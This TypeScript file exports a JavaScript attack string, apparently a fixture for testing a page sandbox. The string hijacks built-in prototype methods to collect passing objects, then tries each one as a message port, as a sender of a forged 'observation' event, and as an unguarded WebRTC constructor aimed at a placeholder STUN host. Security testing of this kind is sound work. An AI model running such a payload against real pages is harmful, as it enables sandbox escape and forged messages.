/**
 * A program that replaces what the reading of its figures could call, keeps every object and function that comes by, and
 * tries each: as the port, as a way to send what the page takes for the pane's word, as a constructor without a guard.
 */
export const FIGURES_ATTACK = `
  const seen = new Set();
  const { apply } = Reflect;
  const keep = Set.prototype.add.bind(seen);
  const places = [
    [Promise.prototype, 'then'], [Promise, 'allSettled'], [Map.prototype, 'get'], [Object, 'fromEntries'],
    [Array.prototype, 'push'], [Array.prototype, 'map'], [Array.prototype, 'filter'], [Array.prototype, 'find'],
    [Array.prototype, 'flatMap'], [Array.prototype, 'splice'], [Function.prototype, 'call'],
    [Function.prototype, 'apply'], [Function.prototype, 'bind'], [RTCPeerConnection.prototype, 'getStats'],
    [RTCStatsReport.prototype, 'forEach'], [EventTarget.prototype, 'addEventListener'], [Reflect, 'apply'],
  ];
  const connection = new RTCPeerConnection();
  connection.addTransceiver('audio');
  await connection.setLocalDescription();
  for (const [owner, name] of places) {
    const native = owner[name];
    owner[name] = function (...args) {
      keep(this);
      for (let index = 0; index < args.length; index++) keep(args[index]);
      return apply(native, this, args);
    };
  }
  const observation = { emitter: 'Room', event: 'forged event', payload: '', time: Date.now() };
  const forged = { pane: { type: 'observation', observation } };
  const servers = { iceServers: [{ urls: 'stun:192.0.2.1:9' }] };
  const found = new Set();
  const tried = new Set();
  setInterval(() => {
    for (const each of [...seen]) {
      if (tried.has(each)) continue;
      tried.add(each);
      if (each instanceof MessagePort) found.add('the port');
      if (typeof each !== 'function') continue;
      try { each(forged); } catch { /* no way to send */ }
      try { if (new each(servers).getConfiguration().iceServers.length > 0) found.add('a constructor'); } catch { /* none */ }
    }
    document.body.textContent = 'tried ' + tried.size + ', found ' + ([...found].join(', ') || 'nothing');
  }, 500);
`;
